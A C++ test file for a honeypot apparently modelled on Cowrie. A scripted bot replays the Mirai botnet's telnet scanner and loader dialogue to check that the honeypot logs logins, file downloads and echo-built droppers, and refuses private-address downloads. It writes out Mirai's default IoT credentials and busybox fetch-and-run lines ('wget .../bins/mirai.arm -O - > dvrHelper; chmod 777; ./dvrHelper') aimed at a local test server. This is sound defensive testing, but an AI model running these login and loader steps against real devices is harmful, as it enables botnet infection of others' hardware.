// A scripted bot that speaks Mirai's scanner and loader dialogue (bot/scanner.c,
// loader/src/server.c) against the honeypot and a local HTTP payload server.
#include <gtest/gtest.h>
#include <httplib.h>
#include <stdlib.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <random>

#include "honeypot/download.hpp"
#include "test_support.hpp"

namespace darkscope {
namespace {

using test::Client;
using test::RunningServer;

constexpr char kIac = static_cast<char>(255);

/// Mirai's consume_iacs: DO NAWS -> WILL NAWS + window 80x24; other DO -> WONT; WILL -> DO.
void answer_negotiation_like_mirai(Client& c, const std::string& greeting) {
  for (std::size_t i = 0; i + 2 < greeting.size() && greeting[i] == kIac; i += 3) {
    const auto verb = static_cast<unsigned char>(greeting[i + 1]);
    const auto option = static_cast<unsigned char>(greeting[i + 2]);
    if (verb == 253 && option == 31) {
      c.send(std::string("\xff\xfb\x1f", 3));
      c.send(std::string("\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0", 9));
      continue;
    }
    std::string reply = greeting.substr(i, 3);
    if (verb == 253) reply[1] = static_cast<char>(252);
    else if (verb == 251) reply[1] = static_cast<char>(253);
    c.send(reply);
  }
}

/// Scanner and loader both log in the same way, then send enable/system/shell/sh.
void mirai_login(Client& c, const char* user, const char* pass) {
  ASSERT_TRUE(c.read_until("login: "));
  ASSERT_EQ(c.last()[0], kIac) << "first bytes must be telnet negotiation";
  answer_negotiation_like_mirai(c, c.last());
  c.send(std::string(user) + "\r\n");
  ASSERT_TRUE(c.read_until("Password: "));
  EXPECT_EQ(c.last().back(), ' ');
  EXPECT_EQ(c.last()[c.last().size() - 2], ':');
  c.send(std::string(pass) + "\r\n");
  ASSERT_TRUE(c.read_until("# "));
  EXPECT_EQ(c.last().find("ncorrect"), std::string::npos);
  for (const char* step : {"enable", "system", "shell", "sh"}) {
    c.send(std::string(step) + "\r\n");
    ASSERT_TRUE(c.read_until("# ")) << step;
  }
}

/// Sends a loader line ending in "/bin/busybox ECCHI" and returns the response
/// up to the token's answer.
std::string loader_step(Client& c, const std::string& line) {
  c.send(line + "\r\n");
  EXPECT_TRUE(c.read_until("ECCHI: applet not found")) << line;
  const std::string response = c.last();
  EXPECT_TRUE(c.read_until("# "));
  return response;
}

std::string arch_from_elf(const std::string& response) {
  const auto at = response.find("\x7f" "ELF");
  if (at == std::string::npos || at + 20 > response.size()) return "";
  const bool big = response[at + 5] == 2;
  const auto b0 = static_cast<unsigned char>(response[at + 18]);
  const auto b1 = static_cast<unsigned char>(response[at + 19]);
  const unsigned machine = big ? (b0 << 8) | b1 : (b1 << 8) | b0;
  if (machine == 40) return "arm";
  if (machine == 8) return big ? "mips" : "mpsl";
  if (machine == 3) return "x86";
  return "unknown";
}

class TempDir {
 public:
  TempDir() {
    char name[] = "/tmp/darkscope-hp-XXXXXX";
    path = ::mkdtemp(name);
  }
  ~TempDir() { std::filesystem::remove_all(path); }
  std::string path;
};

std::string payload_bytes() {
  std::mt19937 rng(20161021);
  std::string p = "\x7f" "ELF";
  p += std::string("\x01\x01\x01", 3);
  while (p.size() < 20000) p.push_back(static_cast<char>(rng()));
  return p;
}

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

struct PayloadServer {
  PayloadServer() {
    svr.Get("/bins/mirai.arm", [this](const httplib::Request&, httplib::Response& res) {
      ++hits;
      res.set_content(payload, "application/octet-stream");
    });
    port = svr.bind_to_any_port("127.0.0.1");
    thread = std::thread([this] { svr.listen_after_bind(); });
    while (!svr.is_running()) std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  ~PayloadServer() {
    svr.stop();
    thread.join();
  }
  httplib::Server svr;
  std::string payload = payload_bytes();
  int port = 0;
  std::atomic<int> hits{0};
  std::thread thread;
};

TEST(MiraiBot, ScannerThenLoaderReachesDownloadAndShasumIsLogged) {
  PayloadServer http;
  TempDir dir;
  HoneypotConfig config = test::test_config();
  config.download_dir = dir.path;
  config.allow_private_downloads = true;
  RunningServer server(std::move(config));

  {  // Scanner: brute force, then the token check that reports a working login.
    Client scanner(server.port);
    mirai_login(scanner, "root", "xc3511");
    scanner.send(std::string("/bin/busybox MIRAI\r\n\0", 21));
    ASSERT_TRUE(scanner.read_until("MIRAI: applet not found"));
    EXPECT_EQ(scanner.buffer().find("ncorrect"), std::string::npos);
  }

  Client loader(server.port);
  mirai_login(loader, "root", "xc3511");
  EXPECT_NE(loader_step(loader, "/bin/busybox ps; /bin/busybox ECCHI").find("PID"), std::string::npos);
  const std::string mounts = loader_step(loader, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI");
  // The loader takes the mount points of writable (" rw") tmpfs lines.
  std::string writable;
  std::size_t start = 0;
  while (writable.empty() && start < mounts.size()) {
    auto end = mounts.find('\n', start);
    if (end == std::string::npos) end = mounts.size();
    const std::string line = mounts.substr(start, end - start);
    start = end + 1;
    if (line.find("tmpfs") != std::string::npos && line.find(" rw") != std::string::npos) {
      const auto a = line.find(' ');
      writable = line.substr(a + 1, line.find(' ', a + 1) - a - 1);
    }
  }
  ASSERT_EQ(writable, "/dev");  // the first writable tmpfs of the dvr profile
  loader.send("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > " + writable + "/.nippon; /bin/busybox cat " +
              writable + "/.nippon; /bin/busybox rm " + writable + "/.nippon\r\n");
  ASSERT_TRUE(loader.read_until("kami"));
  ASSERT_TRUE(loader.read_until("# "));
  loader.send("cd " + writable + "/\r\n");
  ASSERT_TRUE(loader.read_until("# "));
  loader_step(loader, "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
  const std::string arch = arch_from_elf(loader_step(loader, "/bin/busybox cat /bin/echo; /bin/busybox ECCHI"));
  ASSERT_EQ(arch, "arm");
  const std::string methods = loader_step(loader, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
  ASSERT_EQ(methods.find("wget: applet not found"), std::string::npos);
  ASSERT_NE(methods.find("Usage: wget"), std::string::npos);
  const std::string url = "http://127.0.0.1:" + std::to_string(http.port) + "/bins/mirai." + arch;
  loader_step(loader, "/bin/busybox wget " + url + " -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
  loader.send("./dvrHelper telnet.wget; /bin/busybox IHCCE\r\n");
  ASSERT_TRUE(loader.read_until("IHCCE: applet not found"));
  loader.send("exit\r\n");
  EXPECT_TRUE(loader.wait_closed());
  server.stop();

  EXPECT_EQ(http.hits.load(), 1);
  const std::string sha = sha256_hex(http.payload);
  const auto downloads = server.with_id("cowrie.session.file_download");
  ASSERT_EQ(downloads.size(), 1u);
  EXPECT_EQ(downloads[0]["url"], url);
  EXPECT_EQ(downloads[0]["shasum"], sha);
  EXPECT_EQ(downloads[0]["outfile"], dir.path + "/" + sha);
  EXPECT_EQ(downloads[0]["size"], http.payload.size());
  EXPECT_EQ(read_file(dir.path + "/" + sha), http.payload);
  // The same bytes, now in the session's dvrHelper, are not logged twice.
  EXPECT_TRUE(server.with_id("cowrie.session.file_upload").empty());
  const auto logins = server.with_id("cowrie.login.success");
  ASSERT_EQ(logins.size(), 2u);
  EXPECT_EQ(logins[1]["username"], "root");
  EXPECT_EQ(logins[1]["password"], "xc3511");
}

TEST(MiraiBot, EchoDropperIsSavedWhenComplete) {
  TempDir dir;
  HoneypotConfig config = test::test_config();
  config.download_dir = dir.path;
  RunningServer server(std::move(config));
  const std::string payload = payload_bytes().substr(0, 1000);
  Client loader(server.port);
  mirai_login(loader, "admin", "admin");
  loader.send("cd /tmp/\r\n");
  ASSERT_TRUE(loader.read_until("# "));
  loader_step(loader, "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
  static constexpr char kHex[] = "0123456789abcdef";
  for (std::size_t at = 0; at < payload.size(); at += 128) {
    std::string line = "echo -ne '";
    for (std::size_t i = at; i < std::min(payload.size(), at + 128); ++i) {
      const auto b = static_cast<unsigned char>(payload[i]);
      line += "\\x";
      line.push_back(kHex[b >> 4]);
      line.push_back(kHex[b & 15]);
    }
    line += "' >> dvrHelper; /bin/busybox ECCHI";
    loader_step(loader, line);
  }
  loader.send("./dvrHelper telnet.echo; /bin/busybox IHCCE\r\n");
  ASSERT_TRUE(loader.read_until("IHCCE: applet not found"));
  loader.send("exit\r\n");
  EXPECT_TRUE(loader.wait_closed());
  server.stop();
  const auto uploads = server.with_id("cowrie.session.file_upload");
  ASSERT_EQ(uploads.size(), 1u);
  EXPECT_EQ(uploads[0]["filename"], "/tmp/dvrHelper");
  EXPECT_EQ(uploads[0]["shasum"], sha256_hex(payload));
  EXPECT_EQ(read_file(dir.path + "/" + sha256_hex(payload)), payload);
}

TEST(MiraiBot, PrivateDownloadRefusedWithoutPermission) {
  PayloadServer http;
  TempDir dir;
  HoneypotConfig config = test::test_config();
  config.download_dir = dir.path;
  RunningServer server(std::move(config));
  Client c(server.port);
  mirai_login(c, "root", "vizxv");
  const std::string url = "http://127.0.0.1:" + std::to_string(http.port) + "/bins/mirai.arm";
  c.send("cd /tmp; wget " + url + "\r\n");
  ASSERT_TRUE(c.read_until("# "));
  EXPECT_NE(c.last().find("Connection refused"), std::string::npos);
  server.stop();
  EXPECT_EQ(http.hits.load(), 0);
  const auto failed = server.with_id("cowrie.session.file_download.failed");
  ASSERT_EQ(failed.size(), 1u);
  EXPECT_EQ(failed[0]["url"], url);
  EXPECT_EQ(failed[0]["message"], "forbidden address 127.0.0.1");
}

}  // namespace
}  // namespace darkscope
